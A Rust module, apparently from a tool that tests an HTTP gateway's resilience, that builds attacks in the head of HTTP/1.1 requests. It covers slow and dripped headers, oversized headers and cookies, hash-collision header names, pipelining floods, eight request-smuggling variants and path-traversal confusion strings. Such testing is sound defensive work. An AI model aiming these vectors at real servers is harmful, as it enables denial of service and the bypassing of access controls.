//! Vectors in the head of an HTTP/1.1 request.

use std::fmt::Write;
use std::time::Duration;

use tokio::io::AsyncReadExt;
use tokio::time::timeout_at;

use super::connections::{get_request, request_loop};
use super::context::{Attacker, End};
use super::http_1::{count_status, drip, hold, hold_on, write};

/// Opens a connection.
macro_rules! open {
    ($attacker:expr) => {
        match $attacker.open().await {
            Some(stream) => stream,
            None => return End::NotOpened,
        }
    };
}
pub(super) use open;

/// A header that gets a field every second and never ends.
pub(super) async fn slow(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let begin = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", attacker.path(), attacker.host());
    attacker.count_requests(1);
    let more = (0..).map(|n| format!("X-{n}: a\r\n"));
    let parts = std::iter::once(begin).chain(more);
    drip(&attacker, &mut stream, parts, Duration::from_secs(1)).await
}

/// A large header a byte at a time, each in a separate packet, as fast as possible: a
/// parser that starts again for each byte takes quadratic time.
pub(super) async fn fast_drip(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let mut head = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", attacker.path(), attacker.host());
    for n in 0..40 {
        let _ = write!(head, "X-{n}: {}\r\n", "a".repeat(180));
    }
    head += "\r\n";
    attacker.count_requests(1);
    let bytes = head.into_bytes().into_iter().map(|byte| [byte]);
    drip(&attacker, &mut stream, bytes, Duration::ZERO).await
}

/// More header than anybody needs, in four forms by place: one field of a megabyte, ten thousand
/// fields, a cookie of two hundred kilobytes, an address of twenty.
pub(super) async fn huge(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let host = attacker.host();
    let mut head = match attacker.slot % 4 {
        3 => format!("GET /?{} HTTP/1.1\r\nHost: {host}\r\n", "a".repeat(20_000)),
        _ => format!("GET {} HTTP/1.1\r\nHost: {host}\r\n", attacker.path()),
    };
    match attacker.slot % 4 {
        0 => {
            let _ = write!(head, "X-Large: {}\r\n", "a".repeat(1 << 20));
        }
        1 => (0..10_000).for_each(|n| {
            let _ = write!(head, "X-{n}: a\r\n");
        }),
        2 => {
            let _ = write!(head, "Cookie: {}\r\n", "name=value; ".repeat(17_000));
        }
        _ => {}
    }
    head += "\r\n";
    send_once(&attacker, &mut stream, &head).await
}

/// Fields whose names fall into one bucket of a hash table without a secret key: FNV-1a as the
/// `http` library keys its table, and cookies that collide under the times-31 hash of older
/// platforms.
pub(super) async fn colliding(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let host = attacker.host();
    let mut head = format!("GET {} HTTP/1.1\r\nHost: {host}\r\n", attacker.path());
    for name in colliding_names(80) {
        let _ = write!(head, "{name}: a\r\n");
    }
    // `Aa` and `BB` have the same hash, and so has every sequence of them.
    let cookies = (0..256_u32).map(|n| {
        let name: String = (0..8).map(|bit| if n >> bit & 1 == 0 { "Aa" } else { "BB" }).collect();
        name + "=1"
    });
    let cookies: Vec<String> = cookies.collect();
    let _ = write!(head, "Cookie: {}\r\n\r\n", cookies.join("; "));
    send_once(&attacker, &mut stream, &head).await
}

/// Names with the same lowest fifteen bits of their hash.
fn colliding_names(how_many: usize) -> Vec<String> {
    static NAMES: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    let bucket = |name: &str| {
        // The `http` crate hashes the kind of a name (standard or not) before the name.
        let kind = 1_u64.to_le_bytes();
        let bytes = kind.iter().chain(name.as_bytes());
        let hash = bytes.fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
            (hash ^ u64::from(*byte)).wrapping_mul(0x0000_0100_0000_01b3)
        });
        hash & 0x7fff
    };
    // One name in 32 768 falls into a place: eighty take three million tries, some tens of
    // milliseconds, once.
    let names = NAMES.get_or_init(|| {
        let all = (0..u32::MAX).map(|n| format!("x-{n:x}"));
        all.filter(|name| bucket(name) == 7).take(80).collect()
    });
    names.iter().take(how_many).cloned().collect()
}

/// A hundred requests in one go, without waiting for the responses.
pub(super) async fn pipelining(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let head = get_request(&attacker, attacker.path());
    let hundred = head.repeat(100);
    for _ in 0..20 {
        if !attacker.may_continue() {
            return End::Held;
        }
        attacker.count_requests(100);
        if let Err(end) = write(&attacker, &mut stream, hundred.as_bytes()).await {
            return end;
        }
    }
    hold(&attacker, &mut stream).await
}

/// Requests that two servers could read differently, a few of each kind by place. (The whole
/// corpus, with servers behind, is a separate test.) `/smuggled` must never be requested at the
/// origin.
pub(super) async fn smuggling(attacker: Attacker) -> End {
    let mut stream = open!(attacker);
    let host = attacker.host();
    let inner = format!("GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let length = inner.len();
    let post = format!("POST / HTTP/1.1\r\nHost: {host}\r\n");
    let sample = match attacker.slot % 8 {
        0 => format!(
            "{post}Content-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
            length + 5
        ),
        1 => format!("{post}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{inner}"),
        2 => {
            format!("{post}Transfer-Encoding: xchunked\r\nContent-Length: {length}\r\n\r\n{inner}")
        }
        3 => format!("{post}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}"),
        4 => format!("{post}X-Folded: a\r\n Content-Length: {length}\r\n\r\n{inner}"),
        5 => format!("{post}Content-Length: {length}\nX: y\r\n\r\n{inner}"),
        6 => format!(
            "{post}Transfer-Encoding: chunked\r\n\r\n0;\n{length:x}\r\n{inner}\r\n0\r\n\r\n"
        ),
        _ => format!(
            "GET / HTTP/1.1\r\nHost: {host}\r\nHost: elsewhere.example\r\nContent-Length: {length}\
             \r\n\r\n{inner}"
        ),
    };
    send_once(&attacker, &mut stream, &sample).await
}

/// Sends one request and waits for what the gate makes of it: until it closes, or has answered and
/// would take another. To keep such a connection is another vector.
async fn send_once(attacker: &Attacker, stream: &mut super::dial::ClientStream, head: &str) -> End {
    attacker.count_requests(1);
    if let Err(end) = write(attacker, stream, head.as_bytes()).await {
        return end;
    }
    let mut answer = [0; 4096];
    match timeout_at(attacker.end(), stream.read(&mut answer)).await {
        Err(_) => End::Held,
        Ok(Ok(0) | Err(_)) => End::Closed,
        Ok(Ok(length)) => {
            count_status(attacker, &answer[..length]);
            if is_last_response(&answer[..length]) {
                hold_on(attacker, stream).await
            } else {
                End::Finished
            }
        }
    }
}

/// Whether the answer that begins so is the connection's last.
fn is_last_response(answer: &[u8]) -> bool {
    let head = String::from_utf8_lossy(answer).to_ascii_lowercase();
    let head = head.split("\r\n\r\n").next().unwrap_or_default();
    head.lines().any(|line| line == "connection: close")
}

/// Spellings of a page that some servers take for another one: below `/hooks/`, and elsewhere once dot
/// segments, backslashes, escapes or parameters are resolved.
const CONFUSING: [&str; 10] = [
    "/hooks/../search",
    "/hooks/%2e%2e/search",
    "/hooks/.%2E/search",
    "/hooks/%252e%252e/search",
    "/hooks/..;/search",
    "/hooks\\..\\search",
    "/hooks/..%5csearch",
    "/hooks/..%2fsearch",
    "/hooks%2fx/%00",
    "/%c0%ae%c0%ae/search",
];

/// Requests pages by paths that gate and origin could read differently.
pub(super) async fn path_confusion(attacker: Attacker) -> End {
    request_loop(&attacker, Duration::from_millis(100), 50, |round| {
        let path = CONFUSING[round as usize % CONFUSING.len()];
        format!("GET {path} HTTP/1.1\r\nHost: {}\r\n\r\n", attacker.host())
    })
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_last_response_of_a_connection_announces_it_in_its_head() {
        assert!(is_last_response(
            b"HTTP/1.1 431 Too Large\r\nContent-Length: 1\r\nConnection: close\r\n\r\na"
        ));
        assert!(!is_last_response(b"HTTP/1.1 414 Too Long\r\nContent-Length: 1\r\n\r\na"));
        assert!(!is_last_response(b"HTTP/1.1 200 OK\r\n\r\nconnection: close\r\n"));
    }

    /// The names meet in one place of the table that they were made for, until it defends itself.
    #[test]
    fn colliding_names_are_valid_and_differ() {
        let names = colliding_names(80);
        let mut map = http::HeaderMap::new();
        for name in &names {
            let name: http::HeaderName = name.parse().unwrap();
            map.insert(name, http::HeaderValue::from_static("a"));
        }
        assert_eq!(map.len(), 80);
    }
}
